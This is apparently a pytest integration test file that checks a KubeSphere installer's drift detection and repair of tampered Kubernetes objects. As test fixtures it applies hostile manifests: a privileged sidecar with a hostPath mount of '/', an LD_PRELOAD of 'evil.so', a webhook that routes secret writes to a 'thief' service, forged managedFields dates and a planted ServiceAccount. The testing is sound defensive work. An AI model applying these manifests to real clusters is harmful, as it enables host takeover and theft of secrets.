"""The installer's objects after someone else wrote to them under any manager name, a forged date included:
``reconcile --check-drift`` finds them by their fields and the repair ends with the object the installer renders,
saying what it removed; a ServiceAccount planted under the installer's name is created anew, so its tokens die."""

from __future__ import annotations

import json
import time

import pytest
from kubernetes import client
from kubernetes.dynamic import DynamicClient

from installer.settings import NAMESPACE

from .conftest import Installer

pytestmark = [pytest.mark.cluster, pytest.mark.platform]
JSON_PATCH = "application/json-patch+json"


def _apply_as(api: client.ApiClient, manager: str, body: dict) -> None:
    res = DynamicClient(api).resources.get(api_version=body["apiVersion"], kind=body["kind"])
    meta = body["metadata"]
    res.server_side_apply(body=body, name=meta["name"], namespace=meta.get("namespace"), field_manager=manager,
                          force_conflicts=True)


def _user_config(api: client.ApiClient) -> client.V1ConfigMap:
    """A user's own ConfigMap, written by the same managers: never the installer's business."""
    core = client.CoreV1Api(api)
    body = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "users-own", "namespace": "default"},
            "data": {"extra": "1"}}
    _apply_as(api, "kube-controller-manager", body)
    return core.read_namespaced_config_map("users-own", "default")


def test_a_sidecar_a_webhook_and_extra_fields_under_system_manager_names_are_removed(installer: Installer) -> None:
    api = installer.api
    core, apps = client.CoreV1Api(api), client.AppsV1Api(api)
    admission = client.AdmissionregistrationV1Api(api)
    before = apps.read_namespaced_deployment("ks-apiserver", NAMESPACE)
    hooks = [w.name for w in admission.read_validating_webhook_configuration("users.iam.kubesphere.io").webhooks]
    users = _user_config(api)
    _apply_as(api, "kube-controller-manager", {
        "apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "ks-apiserver", "namespace": NAMESPACE},
        "spec": {"template": {"spec": {
            "hostNetwork": True, "hostPID": True, "volumes": [{"name": "root", "hostPath": {"path": "/"}}],
            "containers": [
                {"name": "ks-apiserver", "env": [{"name": "LD_PRELOAD", "value": "/host/evil.so"}],
                 "securityContext": {"privileged": True}},
                {"name": "sidecar", "image": "example.invalid/evil:1",
                 "volumeMounts": [{"name": "root", "mountPath": "/host"}]}]}}}})
    _apply_as(api, "kubelet", {
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration",
        "metadata": {"name": "users.iam.kubesphere.io"},
        "webhooks": [{"name": "secrets.steal.example.com", "admissionReviewVersions": ["v1"], "sideEffects": "None",
                      "failurePolicy": "Ignore",
                      "clientConfig": {"service": {"name": "thief", "namespace": "default", "path": "/"}},
                      "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"],
                                 "resources": ["secrets"]}]}]})
    core.patch_namespaced_service("ks-apiserver", NAMESPACE, {"spec": {"externalIPs": ["203.0.113.7"]}},
                                  field_manager="ks-installer-rollout")

    proc = installer.reconcile("--check-drift")
    assert proc.returncode == 0, proc.stderr[-4000:]
    log = proc.stderr
    assert "Drift in ks-core: " in log and "Deployment/kubesphere-system/ks-apiserver changed by " \
        "kube-controller-manager: spec.template.spec.containers[ks-apiserver].env[LD_PRELOAD]" in log
    removed = (f"[ks-core] Deployment/{NAMESPACE}/ks-apiserver: removed fields of manager kube-controller-manager: "
               "spec.template.spec.containers[ks-apiserver].env[LD_PRELOAD], "
               "spec.template.spec.containers[ks-apiserver].securityContext.privileged, "
               "spec.template.spec.containers[sidecar], spec.template.spec.hostNetwork, "
               "spec.template.spec.hostPID, spec.template.spec.volumes[root]")
    assert removed in log
    assert ("[ks-core] ValidatingWebhookConfiguration/users.iam.kubesphere.io: removed fields of manager kubelet: "
            "webhooks[secrets.steal.example.com]") in log
    assert (f"[ks-core] Service/{NAMESPACE}/ks-apiserver: removed fields of manager ks-installer-rollout: "
            "spec.externalIPs") in log  # (and the externalTrafficPolicy the API server defaulted with them)
    assert "evil.so" not in log and "203.0.113.7" not in log

    after = apps.read_namespaced_deployment("ks-apiserver", NAMESPACE)
    assert after.spec.template.spec == before.spec.template.spec
    assert [w.name for w in admission.read_validating_webhook_configuration(
        "users.iam.kubesphere.io").webhooks] == hooks
    assert core.read_namespaced_service("ks-apiserver", NAMESPACE).spec.external_i_ps is None
    status = installer.status()["modules"]["ks-core"]
    assert removed.removeprefix("[ks-core] ") in status["foreignRemoved"]
    assert not installer.status().get("drift")
    assert core.read_namespaced_config_map("users-own", "default").data == users.data
    core.delete_namespaced_config_map("users-own", "default")

    quiet = installer.reconcile("--check-drift")
    assert "Drift" not in quiet.stderr and installer.ran(quiet) == [], quiet.stderr[-3000:]


def test_a_service_forged_under_the_installers_own_manager_is_repaired(installer: Installer) -> None:
    """Applied as ``ks-installer`` (the installer's own field manager, anyone's to use): a selector that sends the
    webhook's traffic nowhere and an extra port. What the API server recorded (the resourceVersion the installer's
    last write returned) shows the write; the repair ends with the rendered Service and ks-core installed."""
    core = client.CoreV1Api(installer.api)
    before = core.read_namespaced_service("ks-controller-manager", NAMESPACE).spec
    ports = [{"name": p.name, "port": p.port, "targetPort": p.target_port, "protocol": p.protocol}
             for p in before.ports]
    _apply_as(installer.api, "ks-installer", {
        "apiVersion": "v1", "kind": "Service", "metadata": {"name": "ks-controller-manager", "namespace": NAMESPACE},
        "spec": {"selector": {"app": "nowhere"}, "ports": [*ports, {"name": "extra", "port": 4444}]}})

    proc = installer.reconcile("--check-drift")
    assert proc.returncode == 0, proc.stderr[-4000:]
    assert "Drift in ks-core: " in proc.stderr and f"Service/{NAMESPACE}/ks-controller-manager" in proc.stderr
    after = core.read_namespaced_service("ks-controller-manager", NAMESPACE).spec
    assert after.selector == before.selector
    assert [(p.name, p.port) for p in after.ports] == [(p.name, p.port) for p in before.ports]
    assert installer.status()["modules"]["ks-core"]["phase"] == "Installed"
    quiet = installer.reconcile("--check-drift")
    assert "Drift" not in quiet.stderr and installer.ran(quiet) == [], quiet.stderr[-3000:]


def test_a_forged_date_on_the_installers_entry_neither_hides_drift_nor_stops_its_repair(installer: Installer) -> None:
    core = client.CoreV1Api(installer.api)
    rendered = core.read_namespaced_config_map("kubesphere-config", NAMESPACE).data
    core.patch_namespaced_config_map("kubesphere-config", NAMESPACE, {"data": {"kubesphere.yaml": "edited: true\n",
                                                                               "extra": "x"}},
                                     field_manager="ks-installer-helper")
    live = DynamicClient(installer.api).resources.get(api_version="v1", kind="ConfigMap").get(
        name="kubesphere-config", namespace=NAMESPACE).to_dict()
    entries = live["metadata"]["managedFields"]
    for entry in entries:
        entry["time"] = "2099-01-01T00:00:00Z" if entry["manager"] == "ks-installer" else "2000-01-01T00:00:00Z"
    DynamicClient(installer.api).resources.get(api_version="v1", kind="ConfigMap").patch(
        body=[{"op": "replace", "path": "/metadata/managedFields", "value": entries}], name="kubesphere-config",
        namespace=NAMESPACE, content_type=JSON_PATCH)

    proc = installer.reconcile("--check-drift")
    assert proc.returncode == 0, proc.stderr[-4000:]
    assert (f"Drift in ks-config: ConfigMap/{NAMESPACE}/kubesphere-config changed by ks-installer-helper: "
            "data.extra, data.kubesphere.yaml") in proc.stderr
    assert "removed fields of manager" not in proc.stderr  # data.extra is not the render's: kept
    assert core.read_namespaced_config_map("kubesphere-config", NAMESPACE).data == {**rendered, "extra": "x"}
    core.patch_namespaced_config_map("kubesphere-config", NAMESPACE, {"data": {"extra": None}},
                                     field_manager="ks-installer-helper")
    assert not installer.status().get("drift")


def test_a_planted_service_account_is_created_anew_and_its_tokens_die(installer: Installer) -> None:
    api = installer.api
    core = client.CoreV1Api(api)
    core.delete_namespaced_service_account("kubesphere", NAMESPACE)
    planted = core.create_namespaced_service_account(NAMESPACE, {"metadata": {"name": "kubesphere"}})
    token = core.create_namespaced_service_account_token("kubesphere", NAMESPACE, {"spec": {
        "audiences": [], "expirationSeconds": 3600}}).status.token

    def authenticated() -> bool:
        review = client.AuthenticationV1Api(api).create_token_review({"spec": {"token": token}})
        return bool(review.status.authenticated)

    assert authenticated()
    proc = installer.reconcile("--check-drift")
    assert proc.returncode == 0, proc.stderr[-4000:]
    assert "Drift in ks-core: " in proc.stderr and f"ServiceAccount/{NAMESPACE}/kubesphere missing" in proc.stderr
    assert (f"[ks-core] ServiceAccount/{NAMESPACE}/kubesphere: not made by module ks-core nor by the original "
            "installer: deleted and created again, so tokens minted for it no longer work") in proc.stderr
    live = core.read_namespaced_service_account("kubesphere", NAMESPACE)
    assert live.metadata.uid != planted.metadata.uid
    deadline = time.monotonic() + 30  # the API server caches a token's successful review for a few seconds
    while authenticated() and time.monotonic() < deadline:
        time.sleep(1)
    assert not authenticated()
    status = json.dumps(installer.status()["modules"]["ks-core"]["foreignRemoved"])
    assert f"ServiceAccount/{NAMESPACE}/kubesphere: not made by module ks-core" in status


def test_plan_objects_previews_what_the_run_removes_and_recreates(installer: Installer) -> None:
    api = installer.api
    core = client.CoreV1Api(api)
    _apply_as(api, "x", {"apiVersion": "apps/v1", "kind": "Deployment",
                         "metadata": {"name": "ks-controller-manager", "namespace": NAMESPACE},
                         "spec": {"template": {"spec": {"containers": [
                             {"name": "sidecar", "image": "example.invalid/evil:1"}]}}}})
    core.delete_namespaced_service_account("kubesphere", NAMESPACE)
    core.create_namespaced_service_account(NAMESPACE, {"metadata": {"name": "kubesphere"}})

    shown = installer.cli("plan", "--objects", "--all", "--module", "ks-core", "-o", "json")
    assert shown.returncode == 1, shown.stderr[-3000:]
    objects = {o["object"]: o for m in json.loads(shown.stdout)["modules"] for o in m["objects"]}
    removed = "removed fields of manager x: spec.template.spec.containers[sidecar]"
    assert objects[f"Deployment/{NAMESPACE}/ks-controller-manager"]["action"] == "update"
    assert objects[f"Deployment/{NAMESPACE}/ks-controller-manager"]["fields"] == [removed]
    assert objects[f"ServiceAccount/{NAMESPACE}/kubesphere"]["action"] == "recreate"

    proc = installer.reconcile("--check-drift")
    assert proc.returncode == 0, proc.stderr[-4000:]
    assert f"[ks-core] Deployment/{NAMESPACE}/ks-controller-manager: {removed}" in proc.stderr
    assert f"[ks-core] ServiceAccount/{NAMESPACE}/kubesphere: not made by module ks-core" in proc.stderr
